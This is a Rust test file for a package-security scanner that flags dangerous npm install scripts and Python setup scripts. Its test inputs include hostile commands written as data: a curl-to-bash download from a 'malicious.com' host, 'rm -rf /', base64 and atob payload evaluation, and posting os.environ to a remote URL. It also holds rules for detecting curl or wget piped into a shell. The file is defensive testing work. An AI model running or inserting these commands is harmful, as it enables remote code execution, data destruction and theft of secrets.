use package_security::pattern::{earliest_end, text_holds_chain, word_at};
use package_security::rules::rule;
use package_security::scanner::rule_fires_on;
use package_security::{
    default_rules, scan, scannable_sources, DependencyKind, DependencyRef, NpmPackage,
    PackageInfo, PackageMetadata, PatternSeverity, PythonPackage, Rule, Script, ScriptSource,
    VersionRange,
};

fn chars(s: &str) -> Vec<char> {
    s.chars().collect()
}

fn stage(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| w.to_string()).collect()
}

fn compiled(stages: &[&[&str]]) -> Vec<Vec<Vec<char>>> {
    stages.iter().map(|s| s.iter().map(|w| chars(w)).collect()).collect()
}

fn source(location: &str, content: &str) -> ScriptSource {
    ScriptSource { location: location.to_string(), content: content.to_string() }
}

fn metadata(name: &str) -> PackageMetadata {
    PackageMetadata {
        name: name.to_string(),
        version: "1.0.0".to_string(),
        description: None,
        author: None,
        license: None,
        homepage: None,
        repository: None,
        keywords: Vec::new(),
        publish_date: None,
    }
}

#[test]
fn a_word_stands_where_it_stands() {
    let text = chars("curl x | sh");
    assert!(word_at(&text, 0, &chars("curl")));
    assert!(!word_at(&text, 1, &chars("curl")));
    assert!(word_at(&text, 7, &chars("| sh")));
    assert!(!word_at(&text, 8, &chars("| sh")));
    assert!(!word_at(&text, 9, &chars("shell")));
    assert!(!word_at(&text, 12, &chars("")));
    assert!(word_at(&text, 11, &chars("")));
}

#[test]
fn the_occurrence_that_ends_first_is_found() {
    let text = chars("xx wget and curl");
    let words = vec![chars("curl"), chars("wget")];
    assert_eq!(earliest_end(&text, 0, &words), Some(7));
    assert_eq!(earliest_end(&text, 4, &words), Some(16));
    assert_eq!(earliest_end(&text, 13, &words), None);
    assert_eq!(earliest_end(&text, 99, &words), None);
    // A longer word that starts earlier may end later.
    let text = chars("abcdef");
    assert_eq!(earliest_end(&text, 0, &vec![chars("abcdef"), chars("cd")]), Some(4));
    assert_eq!(earliest_end(&text, 0, &Vec::new()), None);
}

#[test]
fn a_chain_needs_its_words_in_order() {
    let chain = compiled(&[&["curl", "wget"], &["| sh", "| bash"]]);
    assert!(text_holds_chain(&chars("curl -s http://x/y.sh | bash"), &chain));
    assert!(text_holds_chain(&chars("wget -qO- x | sh"), &chain));
    assert!(!text_holds_chain(&chars("echo | bash; curl x"), &chain));
    assert!(!text_holds_chain(&chars("curl -s http://x/y.sh"), &chain));
    assert!(!text_holds_chain(&chars(""), &chain));
}

#[test]
fn the_words_of_a_chain_do_not_overlap() {
    let chain = compiled(&[&["abc"], &["cd"]]);
    assert!(!text_holds_chain(&chars("abcd"), &chain));
    assert!(text_holds_chain(&chars("abccd"), &chain));
}

#[test]
fn a_chain_takes_the_match_that_leaves_most_room() {
    // Taking "abcd" first would leave no room for "cd".
    let chain = compiled(&[&["abcd", "ab"], &["cd"]]);
    assert!(text_holds_chain(&chars("abcd"), &chain));
}

#[test]
fn the_empty_chain_is_held_by_every_text() {
    assert!(text_holds_chain(&chars("anything"), &Vec::new()));
    assert!(text_holds_chain(&chars(""), &Vec::new()));
}

#[test]
fn a_rule_fires_on_a_text_that_holds_its_chain() {
    let r = rule(
        "remote-code-exec",
        "Downloads and runs",
        PatternSeverity::Critical,
        vec![stage(&["curl"]), stage(&["| bash"])],
    );
    assert!(rule_fires_on(&r, "curl -s http://malicious.com/script.sh | bash"));
    assert!(!rule_fires_on(&r, "mocha"));
    assert_eq!(r.pattern_name, "remote-code-exec");
    assert_eq!(r.description, "Downloads and runs");
    assert_eq!(r.severity, PatternSeverity::Critical);
}

#[test]
fn the_standard_rules() {
    let rules = default_rules();
    let names: Vec<&str> = rules.iter().map(|r| r.pattern_name.as_str()).collect();
    assert_eq!(
        names,
        vec![
            "remote-code-exec",
            "remote-code-exec",
            "destructive-filesystem",
            "process-spawn",
            "network-access",
            "data-exfiltration",
            "obfuscated-payload",
            "obfuscated-payload",
        ]
    );
    assert!(rules.iter().all(|r| !r.description.is_empty()));
    assert_eq!(rules[0].severity, PatternSeverity::Critical);
    assert_eq!(rules[0].stages, vec![stage(&["curl", "wget"]), stage(&[
        "| sh", "|sh", "| bash", "|bash", "| zsh", "|zsh"
    ])]);
    assert_eq!(rules[2].severity, PatternSeverity::High);
    assert_eq!(rules[3].severity, PatternSeverity::Medium);
    for a in &rules {
        for b in &rules {
            if a.pattern_name == b.pattern_name {
                assert_eq!(a.severity, b.severity);
            }
        }
    }
}

#[test]
fn findings_come_source_by_source_and_rule_by_rule() {
    let sources = vec![
        source("scripts.postinstall", "node -e \"require('child_process').exec('rm -rf /')\""),
        source("scripts.preinstall", "curl -s http://malicious.com/script.sh | bash"),
    ];
    let found = scan(&default_rules(), &sources);
    let listed: Vec<(&str, &str, PatternSeverity)> = found
        .iter()
        .map(|f| (f.pattern_name.as_str(), f.location.as_str(), f.severity))
        .collect();
    assert_eq!(
        listed,
        vec![
            ("destructive-filesystem", "scripts.postinstall", PatternSeverity::High),
            ("process-spawn", "scripts.postinstall", PatternSeverity::Medium),
            ("remote-code-exec", "scripts.preinstall", PatternSeverity::Critical),
        ]
    );
    assert_eq!(found[2].description, "Downloads code from the network and pipes it into a shell");
}

#[test]
fn a_pattern_is_reported_once_for_each_location() {
    // Both rules for encoded payloads fire; they share one name.
    let sources = vec![source("setup.py", "import base64\nexec(base64.b64decode(x))")];
    let found = scan(&default_rules(), &sources);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].pattern_name, "obfuscated-payload");
    assert_eq!(found[0].description, "Evaluates an encoded payload");

    // The same pattern at two locations is reported twice.
    let sources = vec![source("a", "rm -rf /"), source("b", "rm -rf /"), source("a", "rm -rf ~")];
    let found = scan(&default_rules(), &sources);
    let places: Vec<&str> = found.iter().map(|f| f.location.as_str()).collect();
    assert_eq!(places, vec!["a", "b"]);
}

#[test]
fn harmless_scripts_yield_nothing() {
    let sources = vec![source("scripts.test", "mocha"), source("scripts.start", "node index.js")];
    assert!(scan(&default_rules(), &sources).is_empty());
    assert!(scan(&default_rules(), &Vec::new()).is_empty());
    assert!(scan(&Vec::new(), &sources).is_empty());
}

#[test]
fn each_kind_of_construct_is_detected() {
    let cases = [
        ("wget -qO- http://x | sh", "remote-code-exec"),
        ("subprocess.run(['curl', 'http://x'])", "remote-code-exec"),
        ("shutil.rmtree('/')", "destructive-filesystem"),
        ("os.system('ls')", "process-spawn"),
        ("urllib.request.urlopen('http://x')", "network-access"),
        ("d = os.environ; requests.post(u, d)", "data-exfiltration"),
        ("eval(atob('...'))", "obfuscated-payload"),
    ];
    for (text, expected) in cases {
        let found = scan(&default_rules(), &vec![source("s", text)]);
        assert!(
            found.iter().any(|f| f.pattern_name == expected),
            "{} should be reported for {}",
            expected,
            text
        );
    }
}

#[test]
fn a_custom_rule_set_is_applied_as_given() {
    let rules: Vec<Rule> = vec![
        rule("first", "one", PatternSeverity::Low, vec![stage(&["a"])]),
        rule("second", "two", PatternSeverity::High, vec![stage(&["b"]), stage(&["a"])]),
    ];
    let found = scan(&rules, &vec![source("x", "ba"), source("y", "ab")]);
    let listed: Vec<(&str, &str)> =
        found.iter().map(|f| (f.pattern_name.as_str(), f.location.as_str())).collect();
    assert_eq!(listed, vec![("first", "x"), ("second", "x"), ("first", "y")]);
}

#[test]
fn the_scripts_of_an_npm_package_are_scanned() {
    let package = PackageInfo::Npm(NpmPackage {
        metadata: metadata("p"),
        scripts: vec![
            Script { name: "preinstall".to_string(), body: "curl x | sh".to_string() },
            Script { name: "test".to_string(), body: "mocha".to_string() },
        ],
        dependencies: Vec::new(),
    });
    let sources = scannable_sources(&package);
    let listed: Vec<(&str, &str)> =
        sources.iter().map(|s| (s.location.as_str(), s.content.as_str())).collect();
    assert_eq!(listed, vec![("scripts.preinstall", "curl x | sh"), ("scripts.test", "mocha")]);
}

#[test]
fn the_setup_script_of_a_python_package_is_scanned() {
    let with = PackageInfo::Python(PythonPackage {
        metadata: metadata("p"),
        setup_script: Some("import os".to_string()),
        dependencies: vec![DependencyRef::new(
            "requests".to_string(),
            VersionRange::any(),
            DependencyKind::Runtime,
        )],
    });
    let sources = scannable_sources(&with);
    assert_eq!(sources.len(), 1);
    assert_eq!(sources[0].location, "setup.py");
    assert_eq!(sources[0].content, "import os");

    let without = PackageInfo::Python(PythonPackage {
        metadata: metadata("p"),
        setup_script: None,
        dependencies: Vec::new(),
    });
    assert!(scannable_sources(&without).is_empty());
}
